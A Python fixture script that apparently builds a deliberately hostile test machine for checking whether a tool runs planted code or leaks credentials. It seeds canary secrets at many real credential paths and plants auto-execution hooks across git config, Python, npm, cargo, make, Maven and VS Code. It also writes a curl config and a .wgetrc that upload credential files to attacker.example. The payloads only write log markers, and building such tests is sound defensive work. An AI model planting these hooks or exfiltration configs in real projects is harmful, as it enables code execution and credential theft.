#!/usr/bin/env python3
"""fixture.py DIR -- build three throwaway machines under DIR: hostile, clean, lfs-delta.

Each machine is DIR/<name>/{home,ws,harm.log}. Every planted program appends
`RAN <name>` to DIR/<name>/harm.log. Every credential holds a unique canary
`BSTNCANARY_<name>`. Paths are absolute, so verify.py bind-mounts copies at the
same place.
"""
import os
import stat
import subprocess
import sys
import json
import shutil


def w(path, text, mode=None):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)
    if mode:
        os.chmod(path, mode)


def git(cwd, *args, env=None):
    e = dict(os.environ)
    e.update({"GIT_AUTHOR_NAME": "Dev", "GIT_AUTHOR_EMAIL": "dev@example.com",
              "GIT_COMMITTER_NAME": "Dev", "GIT_COMMITTER_EMAIL": "dev@example.com",
              "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1",
              "GIT_AUTHOR_DATE": "2026-01-01T00:00:00Z", "GIT_COMMITTER_DATE": "2026-01-01T00:00:00Z"})
    if env:
        e.update(env)
    return subprocess.run(["git", *args], cwd=cwd, env=e, check=True,
                          stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True).stdout


def harm(fix, name):
    """Shell snippet for a planted program."""
    return f'#!/bin/sh\necho "RAN {name}" >> {fix}/harm.log\n'


def prog(fix, path, name):
    w(path, harm(fix, name), 0o755)
    return path


PROJECT = {
    "README.md": "# demo\n\nA small demo project.\n\n## Usage\n\n    make test\n",
    "pyproject.toml": '[project]\nname = "demo"\nversion = "0.1.0"\n\n[tool.pytest.ini_options]\ntestpaths = ["tests"]\n',
    "app/__init__.py": "",
    "app/core.py": "def add(a, b):\n    return a + b\n\n\ndef greet(name):\n    # TODO: i18n\n    return f'hello {name}'\n",
    "app/cli.py": "import sys\nfrom app.core import greet\n\nif __name__ == '__main__':\n    print(greet(sys.argv[1] if len(sys.argv) > 1 else 'world'))\n",
    "tests/test_core.py": "from app.core import add, greet\n\n\ndef test_add():\n    assert add(1, 2) == 3\n\n\ndef test_greet():\n    assert greet('x') == 'hello x'\n",
    "package.json": json.dumps({"name": "demo", "version": "0.1.0", "private": True,
                                "scripts": {"test": "node --test", "lint": "node --check web/index.js"}}, indent=2) + "\n",
    "web/index.js": "export function sum(a, b) { return a + b; }\n",
    "Makefile": "test:\n\tpython3 -m pytest -q\n\nlint:\n\tpython3 -m pyflakes app || true\n\n.PHONY: test lint\n",
    "Cargo.toml": '[package]\nname = "demo"\nversion = "0.1.0"\nedition = "2021"\n',
    "src/main.rs": 'fn main() { println!("hi"); }\n',
    "data/sample.json": '{"a": 1, "b": [1, 2, 3]}\n',
    "docs/notes.txt": "notes\nline two\n",
    ".gitignore": "__pycache__/\ntarget/\nnode_modules/\n",
}


def project(ws, extra_attrs=None):
    for rel, text in PROJECT.items():
        w(os.path.join(ws, rel), text)
    if extra_attrs:
        w(os.path.join(ws, ".gitattributes"), extra_attrs)
    git(ws, "init", "-q", "-b", "main")
    git(ws, "add", "-A")
    git(ws, "commit", "-q", "-m", "initial")
    w(os.path.join(ws, "app/core.py"), PROJECT["app/core.py"] + "\n\ndef sub(a, b):\n    return a - b\n")
    git(ws, "add", "-A")
    git(ws, "commit", "-q", "-m", "add sub")
    git(ws, "tag", "v0.1.0")
    git(ws, "remote", "add", "origin", "https://github.com/example/demo.git")
    # one uncommitted change, so diff/status have something to show
    w(os.path.join(ws, "docs/notes.txt"), "notes\nline two\nline three\n")


def build_clean(root, name="clean", lfs_delta=False):
    fix = os.path.join(root, name)
    home, ws = os.path.join(fix, "home"), os.path.join(fix, "ws")
    os.makedirs(home, exist_ok=True)
    w(os.path.join(fix, "harm.log"), "")
    gc = "[user]\n\tname = Dev\n\temail = dev@example.com\n[init]\n\tdefaultBranch = main\n"
    if lfs_delta:
        gc += ("[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n\tsmudge = git-lfs smudge -- %f\n"
               "\tprocess = git-lfs filter-process\n\trequired = true\n"
               "[core]\n\tpager = delta\n[interactive]\n\tdiffFilter = delta --color-only\n"
               "[delta]\n\tnavigate = true\n\tline-numbers = true\n[merge]\n\tconflictstyle = zdiff3\n")
    w(os.path.join(home, ".gitconfig"), gc)
    w(os.path.join(home, ".bashrc"), "export PS1='$ '\n")
    project(ws, "*.bin filter=lfs diff=lfs merge=lfs -text\n" if lfs_delta else None)
    return fix


CREDS = {
    # relative path under HOME -> template with {c} canary
    ".ssh/id_rsa": "-----BEGIN OPENSSH PRIVATE KEY-----\n{c}\n-----END OPENSSH PRIVATE KEY-----\n",
    ".ssh/id_ed25519": "-----BEGIN OPENSSH PRIVATE KEY-----\n{c}\n-----END OPENSSH PRIVATE KEY-----\n",
    ".ssh/config": "Host prod\n  HostName 10.0.0.5\n  IdentityFile ~/.ssh/id_rsa\n  # {c}\n",
    ".aws/credentials": "[default]\naws_access_key_id = AKIAEXAMPLE\naws_secret_access_key = {c}\n",
    ".aws/config": "[default]\nregion = us-east-1\n# {c}\n",
    ".config/gcloud/application_default_credentials.json": '{{"client_secret": "{c}", "refresh_token": "x", "type": "authorized_user"}}\n',
    ".config/gcloud/credentials.db": "SQLite {c}\n",
    ".azure/accessTokens.json": '[{{"accessToken": "{c}"}}]\n',
    ".kube/config": ("apiVersion: v1\nkind: Config\nclusters:\n- cluster: {{server: 'https://10.0.0.1:6443'}}\n  name: prod\n"
                     "contexts:\n- context: {{cluster: prod, user: admin}}\n  name: prod\ncurrent-context: prod\n"
                     "users:\n- name: admin\n  user:\n    token: {c}\n"
                     "- name: oidc\n  user:\n    auth-provider:\n      name: oidc\n      config:\n"
                     "        client-id: k\n        refresh-token: {c}_oidc_refresh\n        idp-issuer-url: https://idp.example\n"),
    ".docker/config.json": '{{"auths": {{"https://index.docker.io/v1/": {{"auth": "{c}"}}}}}}\n',
    ".npmrc": "//registry.npmjs.org/:_authToken={c}\n",
    ".pypirc": "[pypi]\nusername = __token__\npassword = {c}\n",
    ".cargo/credentials.toml": '[registry]\ntoken = "{c}"\n',
    ".gem/credentials": "---\n:rubygems_api_key: {c}\n",
    ".git-credentials": "https://dev:{c}@github.com\n",
    ".netrc": "machine api.example.com login dev password {c}\n",
    ".pgpass": "db.example.com:5432:*:dev:{c}\n",
    ".my.cnf": "[client]\nuser=dev\npassword={c}\n",
    ".config/gh/hosts.yml": "github.com:\n    oauth_token: {c}\n    user: dev\n",
    ".config/glab-cli/config.yml": "hosts:\n  gitlab.com:\n    token: {c}\n",
    ".vault-token": "{c}\n",
    ".password-store/email/work.gpg": "{c}\n",
    ".local/share/keyrings/login.keyring": "{c}\n",
    ".config/op/config": '{{"accounts": [{{"secret": "{c}"}}]}}\n',
    ".config/Bitwarden CLI/data.json": '{{"token": "{c}"}}\n',
    ".mozilla/firefox/abc.default/logins.json": '{{"logins": [{{"encryptedPassword": "{c}"}}]}}\n',
    ".config/google-chrome/Default/Cookies": "SQLite {c}\n",
    ".config/google-chrome/Default/Login Data": "SQLite {c}\n",
    ".bash_history": "export GITHUB_TOKEN={c}\nls\n",
    ".zsh_history": ": 1:0;mysql -p{c}\n",
    ".python_history": "token = '{c}'\n",
    ".psql_history": "ALTER USER x PASSWORD '{c}';\n",
    ".env": "OPENAI_API_KEY={c}\n",
    ".m2/settings.xml": "<settings><servers><server><id>r</id><password>{c}</password></server></servers></settings>\n",
    ".terraform.d/credentials.tfrc.json": '{{"credentials": {{"app.terraform.io": {{"token": "{c}"}}}}}}\n',
    ".config/pip/pip.conf": "[global]\nindex-url = https://dev:{c}@pypi.example.com/simple\n",
    ".gnupg/private-keys-v1.d/ABCD.key": "{c}\n",
    ".config/rclone/rclone.conf": "[s3]\ntype = s3\nsecret_access_key = {c}\n",
    ".bastion/credentials/github": "{c}\n",
}


def canary(rel):
    base = rel.strip("./").replace("/", "_").replace(".", "").replace(" ", "")
    return "BSTNCANARY_" + base


def build_hostile(root):
    fix = os.path.join(root, "hostile")
    home, ws = os.path.join(fix, "home"), os.path.join(fix, "ws")
    H = lambda *p: os.path.join(home, *p)
    W = lambda *p: os.path.join(ws, *p)
    os.makedirs(home, exist_ok=True)
    os.makedirs(ws, exist_ok=True)
    w(os.path.join(fix, "harm.log"), "")
    for rel, tmpl in CREDS.items():
        w(H(rel), tmpl.format(c=canary(rel)), 0o600)
    # the user's own gitconfig: a token in insteadOf, credential store
    w(H(".gitconfig"), "[user]\n\tname = Dev\n\temail = dev@example.com\n[credential]\n\thelper = store\n"
      "[url \"https://dev:BSTNCANARY_gitconfig_insteadof@github.com/\"]\n\tinsteadOf = https://github.com/\n")
    w(H(".bashrc"), "export PS1='$ '\n")
    w(H(".profile"), "# profile\n")

    # ---- planted programs
    evil = prog(fix, W("tools/evil.sh"), "evil.sh")
    for n in ["fsmonitor", "textconv", "diffext", "pager", "alias", "hook", "clean-filter", "sshcmd",
              "uploadpack", "credhelper", "gpgprog", "editor", "difftool", "kube-exec", "docker-plugin",
              "rustc-wrapper", "cargo-runner", "toolchain-cargo", "toolchain-rustc", "yarnpath", "mvnw",
              "gradlew", "script-shell", "askpass", "grep-pager", "lessopen", "bashenv", "gitproxy",
              "include-fsmonitor", "gitfile-fsmonitor", "submodule-fsmonitor", "bare-textconv",
              "hookspath", "includeif", "sequence-editor", "tar-rsh", "tar-compress", "zip-unzip",
              "man-pager", "make-shell", "exec-path", "mergetool"]:
        prog(fix, W("tools", n), n)
    T = lambda n: W("tools", n)

    # ---- python: modules shadowing stdlib
    for mod in ["json", "calendar", "platform", "tokenize", "py_compile", "timeit", "uuid", "base64",
                "ast", "dis", "zipfile", "tarfile", "locale", "sysconfig", "this", "pydoc_data", "difflib",
                "shlex", "textwrap", "pprint", "csv", "argparse", "inspect", "tomllib", "filecmp", "http"]:
        code = f"import os\nos.system('echo RAN py-shadow-{mod} >> {fix}/harm.log')\n"
        if mod in ("http", "pydoc_data"):
            w(W(mod, "__init__.py"), code)
        else:
            w(W(mod + ".py"), code)
    w(W("pip", "__init__.py"), f"import os\nos.system('echo RAN py-shadow-pip >> {fix}/harm.log')\n")
    w(W("pip", "__main__.py"), "")
    w(W("unittest", "__init__.py"), f"import os\nos.system('echo RAN py-shadow-unittest >> {fix}/harm.log')\n")
    w(W("unittest", "__main__.py"), "")
    w(W("conftest.py"), f"import os\nos.system('echo RAN conftest >> {fix}/harm.log')\n")
    w(W("setup.py"), f"import os\nos.system('echo RAN setup.py >> {fix}/harm.log')\nfrom setuptools import setup\nsetup(name='x')\n")
    w(W("data.json"), '{"a": 1}\n')
    w(W("evilpath", "json.py"), f"import os\nos.system('echo RAN pythonpath-json >> {fix}/harm.log')\n")
    w(W("evilmod.pm"), f"package evilmod; system('echo RAN perl5opt >> {fix}/harm.log'); 1;\n")
    w(W("check.pl"), f"BEGIN {{ system('echo RAN perl-c-begin >> {fix}/harm.log') }}\nprint 'x';\n")
    w(W("lib", "Data", "Dumper.pm"), f"package Data::Dumper; system('echo RAN perl-shadow-dumper >> {fix}/harm.log'); 1;\n")
    # node
    w(W("package.json"), json.dumps({"name": "victim", "version": "1.0.0", "scripts": {"test": "echo ok", "build": "echo build"}}) + "\n")
    w(W("package.js"), f"require('child_process').execSync('echo RAN node-package-js >> {fix}/harm.log'); module.exports={{version:'9'}};\n")
    w(W("node_modules", "lodash", "index.js"), f"require('child_process').execSync('echo RAN node-lodash >> {fix}/harm.log');\n")
    w(W("node_modules", "lodash", "package.json"), '{"name":"lodash","version":"4.17.21","main":"index.js"}\n')
    for b in ["eslint", "tsc", "prettier", "jest", "vite"]:
        prog(fix, W("node_modules", ".bin", b), "node-bin-" + b)
    w(W("preload.js"), f"require('child_process').execSync('echo RAN node-preload >> {fix}/harm.log');\n")
    os.makedirs(W("tc"), exist_ok=True)
    w(W("tc", "package.json"), json.dumps({"name": "tc", "version": "1.0.0", "scripts": {"test": "echo ok", "build": "echo build", "start": "echo s", "prepack": "echo p"}}) + "\n")
    w(W("tc", ".npmrc"), f"script-shell={T('script-shell')}\nnode-options=--require {W('preload.js')}\n")
    w(W("tc", ".yarnrc.yml"), f"yarnPath: {T('yarnpath')}\n")
    # rust
    os.makedirs(W("rustproj", "src"), exist_ok=True)
    w(W("rustproj", "Cargo.toml"), '[package]\nname = "r"\nversion = "0.1.0"\nedition = "2021"\n')
    w(W("rustproj", "src", "main.rs"), "fn main() {}\n")
    w(W("rustproj", ".cargo", "config.toml"), f'[build]\nrustc-wrapper = "{T("rustc-wrapper")}"\n'
      f'[target.x86_64-unknown-linux-gnu]\nrunner = "{T("cargo-runner")}"\n')
    w(W("rustproj", "build.rs"), f'fn main() {{ std::process::Command::new("sh").arg("-c").arg("echo RAN build.rs >> {fix}/harm.log").status().unwrap(); }}\n')
    os.makedirs(W("rusttc", "evil-toolchain", "bin"), exist_ok=True)
    prog(fix, W("rusttc", "evil-toolchain", "bin", "cargo"), "toolchain-cargo")
    prog(fix, W("rusttc", "evil-toolchain", "bin", "rustc"), "toolchain-rustc")
    w(W("rusttc", "rust-toolchain.toml"), f'[toolchain]\npath = "{W("rusttc", "evil-toolchain")}"\n')
    w(W("rusttc", "Cargo.toml"), '[package]\nname = "t"\nversion = "0.1.0"\n')
    # java / build wrappers
    w(W("tc", ".mvn", "jvm.config"), f"-XX:OnOutOfMemoryError={T('evil.sh')} -XX:+CrashOnOutOfMemoryError\n")
    w(W("tc", ".mvn", "maven.config"), f"-Dexec.executable={T('evil.sh')}\n")
    prog(fix, W("tc", "mvnw"), "mvnw")
    prog(fix, W("tc", "gradlew"), "gradlew")
    w(W("tc", ".bazeliskrc"), f"BAZELISK_BASE_URL=file://{ws}/tools\nUSE_BAZEL_VERSION=evil\n")
    w(W("tc", ".tool-versions"), "python 3.11.7\n")
    w(W("tc", ".python-version"), "system\n")
    # make
    w(W("Makefile"), f"X := $(shell echo RAN make-shell-assign >> {fix}/harm.log)\n"
      "include gen.mk\n"
      f"gen.mk:\n\techo RAN make-include-remake >> {fix}/harm.log; touch gen.mk\n"
      f"all:\n\t+echo RAN make-plus-line >> {fix}/harm.log\n"
      "help:\n\t@echo targets: all\n.PHONY: all help\n")
    # awk / jq / tar / zip
    w(W("prog.awk"), f'BEGIN {{ system("echo RAN awk-f >> {fix}/harm.log") }}\n')
    w(W("inc.awk"), f'BEGIN {{ system("echo RAN awk-include >> {fix}/harm.log") }}\n')
    w(W("curl.cfg"), f'url = "http://attacker.example/"\nupload-file = "{H(".aws/credentials")}"\n')
    w(W(".wgetrc"), f"post_file = {H('.netrc')}\n")
    subprocess.run(["tar", "-cf", W("release.tar"), "-C", ws, "data.json"], check=True)
    subprocess.run(["zip", "-q", W("release.zip"), W("data.json")], check=True, cwd=ws)
    # docker
    os.makedirs(W("dockercfg", "cli-plugins"), exist_ok=True)
    w(W("dockercfg", "config.json"), json.dumps({"cliPluginsExtraDirs": [W("dockerplugins")]}) + "\n")
    w(W("dockerplugins", "docker-compose"), harm(fix, "docker-plugin") +
      'if [ "$1" = docker-cli-plugin-metadata ]; then echo \'{"SchemaVersion":"0.1.0","Vendor":"x","Version":"9"}\'; fi\n', 0o755)
    w(W("dockercfg", "cli-plugins", "docker-buildx"), harm(fix, "docker-plugin-dir") +
      'if [ "$1" = docker-cli-plugin-metadata ]; then echo \'{"SchemaVersion":"0.1.0","Vendor":"x","Version":"9"}\'; fi\n', 0o755)
    w(W(".env"), "DB_PASSWORD=BSTNCANARY_ws_env\n")
    w(W("compose.yaml"), "services:\n  app:\n    image: alpine\n    environment:\n      PW: ${DB_PASSWORD}\n")
    # kube: workspace kubeconfig with an exec credential plugin
    w(W("kubeconfig"), ("apiVersion: v1\nkind: Config\nclusters:\n- cluster: {server: 'https://127.0.0.1:6443'}\n  name: c\n"
                        "contexts:\n- context: {cluster: c, user: u}\n  name: c\ncurrent-context: c\n"
                        f"users:\n- name: u\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1beta1\n"
                        f"      command: {T('kube-exec')}\n      interactiveMode: Never\n"))
    # env-driven loaders
    w(W("bashenv.sh"), f"echo RAN bashenv >> {fix}/harm.log\n")
    w(W("lessopen.sh"), harm(fix, "lessopen"), 0o755)
    # hard links and symlinks to HOME credentials
    os.link(H(".aws/credentials"), W("notes.txt"))
    os.makedirs(W("fixtures"), exist_ok=True)
    os.link(H(".ssh/id_ed25519"), W("fixtures", "key.pem"))
    os.link(H(".config/gh/hosts.yml"), W("ci.yml"))
    os.link(H(".netrc"), W("docs.md"))
    os.symlink(H(".ssh/id_rsa"), W("deploy_key"))
    os.symlink(H(".config/gh"), W("ghcfg"))
    os.symlink(H(".kube"), W("kube"))
    os.symlink(home, W("homelink"))
    os.symlink(H(".docker/config.json"), W("dockerauth.json"))
    # editor / agent config already present (runs later)
    w(W(".vscode", "tasks.json"), json.dumps({"version": "2.0.0", "tasks": [{"label": "x", "type": "shell", "command": T("evil.sh"), "runOptions": {"runOn": "folderOpen"}}]}) + "\n")
    w(W(".envrc"), f"echo RAN direnv >> {fix}/harm.log\n")
    w(W(".hg", "hgrc"), f"[hooks]\npre-status = {T('evil.sh')}\n[extensions]\nevil = {ws}/evilhg.py\n")
    w(W(".hg", "requires"), "store\n")

    # ---- repositories with hostile config
    def repo(name, files=None):
        d = W(name)
        os.makedirs(d, exist_ok=True)
        git(d, "init", "-q", "-b", "main")
        for rel, text in (files or {"a.txt": "one\n", "README.md": "# r\n"}).items():
            w(os.path.join(d, rel), text)
        git(d, "add", "-A")
        git(d, "commit", "-q", "-m", "init")
        return d

    def cfg(d, key, val, gitdir=None):
        git(d, "config", "--file", os.path.join(gitdir or os.path.join(d, ".git"), "config"), key, val)

    def dirty(d):
        with open(os.path.join(d, "a.txt"), "a") as f:
            f.write("changed\n")

    d = repo("r-fsmonitor"); cfg(d, "core.fsmonitor", T("fsmonitor"))
    d = repo("r-textconv", {"a.txt": "one\n", ".gitattributes": "*.txt diff=evil\n"})
    cfg(d, "diff.evil.textconv", T("textconv")); dirty(d)
    d = repo("r-diffext"); cfg(d, "diff.external", T("diffext")); dirty(d)
    d = repo("r-pager"); cfg(d, "core.pager", T("pager")); cfg(d, "pager.log", T("pager"))
    d = repo("r-alias"); cfg(d, "alias.lg", "!" + T("alias")); cfg(d, "alias.st", "!" + T("alias"))
    d = repo("r-hooks")
    for hk in ["post-checkout", "post-index-change", "reference-transaction", "pre-commit", "post-commit",
               "pre-push", "post-merge", "post-rewrite", "pre-auto-gc", "commit-msg", "prepare-commit-msg", "pre-rebase"]:
        prog(fix, os.path.join(d, ".git", "hooks", hk), "hook-" + hk)
    dirty(d)
    d = repo("r-filter", {"a.txt": "one\n", ".gitattributes": "*.txt filter=evil\n"})
    cfg(d, "filter.evil.clean", T("clean-filter")); cfg(d, "filter.evil.smudge", T("clean-filter")); dirty(d)
    d = repo("r-remote")
    cfg(d, "core.sshCommand", T("sshcmd"))
    cfg(d, "remote.origin.url", "git@github.com:example/x.git")
    cfg(d, "remote.local.url", W("r-fsmonitor"))
    cfg(d, "remote.local.uploadpack", T("uploadpack"))
    cfg(d, "credential.helper", T("credhelper"))
    cfg(d, "core.askPass", T("askpass"))
    cfg(d, "core.gitProxy", T("gitproxy"))
    cfg(d, "core.editor", T("editor"))
    cfg(d, "sequence.editor", T("sequence-editor"))
    cfg(d, "diff.tool", "evil"); cfg(d, "difftool.evil.cmd", T("difftool")); cfg(d, "difftool.prompt", "false")
    cfg(d, "merge.tool", "evil"); cfg(d, "mergetool.evil.cmd", T("mergetool"))
    dirty(d)
    # signed commit + gpg.program + log.showSignature
    d = repo("r-gpg")
    tree = git(d, "rev-parse", "HEAD^{tree}").strip()
    parent = git(d, "rev-parse", "HEAD").strip()
    body = (f"tree {tree}\nparent {parent}\nauthor Dev <dev@example.com> 1767225600 +0000\n"
            "committer Dev <dev@example.com> 1767225600 +0000\n"
            "gpgsig -----BEGIN PGP SIGNATURE-----\n \n iQEzBAABCAAdFiEE\n -----END PGP SIGNATURE-----\n\nsigned\n")
    p = subprocess.run(["git", "hash-object", "-t", "commit", "-w", "--stdin"], cwd=d, input=body,
                       text=True, capture_output=True, check=True)
    git(d, "update-ref", "refs/heads/main", p.stdout.strip())
    cfg(d, "gpg.program", T("gpgprog")); cfg(d, "log.showSignature", "true")
    # include.path into the workspace; includeIf
    w(W("shared.gitconfig"), f"[core]\n\tfsmonitor = {T('include-fsmonitor')}\n")
    d = repo("r-include"); cfg(d, "include.path", W("shared.gitconfig"))
    w(W("team.gitconfig"), f"[core]\n\tfsmonitor = {T('includeif')}\n")
    d = repo("r-includeif"); cfg(d, f"includeIf.gitdir:{ws}/.path", W("team.gitconfig"))
    # hooksPath into the workspace
    os.makedirs(W("githooks"), exist_ok=True)
    for hk in ["post-index-change", "reference-transaction", "post-checkout", "pre-commit"]:
        prog(fix, W("githooks", hk), "hookspath-" + hk)
    d = repo("r-hookspath"); cfg(d, "core.hooksPath", W("githooks")); dirty(d)
    # .git file with gitdir: pointing to a hidden git dir
    d = repo("r-gitfile-src")
    os.rename(os.path.join(d, ".git"), W(".cache-gitdir"))
    w(os.path.join(d, ".git"), f"gitdir: {W('.cache-gitdir')}\n")
    os.rename(d, W("r-gitfile"))
    cfg(W("r-gitfile"), "core.worktree", W("r-gitfile"), gitdir=W(".cache-gitdir"))
    cfg(W("r-gitfile"), "core.fsmonitor", T("gitfile-fsmonitor"), gitdir=W(".cache-gitdir"))
    # bare repo in the workspace (attributes in info/)
    d = repo("bare-src", {"a.txt": "one\n", "b.txt": "two\n"})
    with open(os.path.join(d, "a.txt"), "a") as f:
        f.write("2\n")
    git(d, "commit", "-qam", "second")
    subprocess.run(["git", "clone", "-q", "--bare", d, W("vendor.git")], check=True, capture_output=True)
    shutil.rmtree(d)
    w(W("vendor.git", "info", "attributes"), "* diff=evil\n")
    cfg(W("vendor.git"), "diff.evil.textconv", T("bare-textconv"), gitdir=W("vendor.git"))
    cfg(W("vendor.git"), "core.pager", T("pager"), gitdir=W("vendor.git"))
    # submodule whose own git dir sets fsmonitor
    sub_src = repo("sub-src")
    d = repo("r-super")
    git(d, "-c", "protocol.file.allow=always", "submodule", "add", "-q", sub_src, "lib")
    git(d, "commit", "-qam", "add submodule")
    cfg(os.path.join(d, "lib"), "core.fsmonitor", T("submodule-fsmonitor"),
        gitdir=os.path.join(d, ".git", "modules", "lib"))
    with open(os.path.join(d, "lib", "a.txt"), "a") as f:
        f.write("x\n")
    # the workspace root itself is an innocent-looking repo; its .git has an
    # fsmonitor too (the archive carried .git)
    git(ws, "init", "-q", "-b", "main")
    w(W(".gitignore"), "*\n")
    git(ws, "add", "-f", ".gitignore", "README.md") if os.path.exists(W("README.md")) else None
    w(W("README.md"), "# victim\n")
    git(ws, "add", "-f", ".gitignore", "README.md")
    git(ws, "commit", "-q", "-m", "init")
    git(ws, "remote", "add", "origin", "https://github.com/example/victim.git")
    prog(fix, W(".git", "hooks", "post-checkout"), "root-post-checkout")
    w(W(".git", "hooks", "post-checkout"), "#!/bin/sh\nexit 0\n", 0o755)
    os.makedirs(W("scripts"), exist_ok=True)
    os.link(W(".git", "hooks", "post-checkout"), W("scripts", "precommit.sh"))
    os.link(H(".bashrc"), W("scripts", "env.sh"))
    os.makedirs(W("build"), exist_ok=True)
    os.symlink(W(".git", "config"), W("build", "gitconfig"))
    # a repository whose work tree is HOME; its index tracks two credential files
    d = W("r-worktree")
    os.makedirs(d)
    git(d, "init", "-q", "-b", "main")
    w(os.path.join(d, ".aws", "credentials"), "[default]\naws_secret_access_key = old\n")
    w(os.path.join(d, ".netrc"), "machine api.example.com login dev password old\n")
    git(d, "add", "-A")
    git(d, "commit", "-q", "-m", "dotfiles")
    shutil.rmtree(os.path.join(d, ".aws"))
    os.unlink(os.path.join(d, ".netrc"))
    cfg(d, "core.worktree", home)
    w(W("evilhg.py"), f"import os\nos.system('echo RAN hg-extension >> {fix}/harm.log')\n")
    # make HOME snapshot list (verify compares)
    return fix


def build(root):
    root = os.path.abspath(root)
    os.makedirs(root, exist_ok=True)
    out = {"hostile": build_hostile(root), "clean": build_clean(root, "clean"),
           "lfs-delta": build_clean(root, "lfs-delta", lfs_delta=True)}
    return {k: {"dir": v, "home": os.path.join(v, "home"), "ws": os.path.join(v, "ws")} for k, v in out.items()}


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: fixture.py DIR")
    print(json.dumps(build(sys.argv[1]), indent=1))
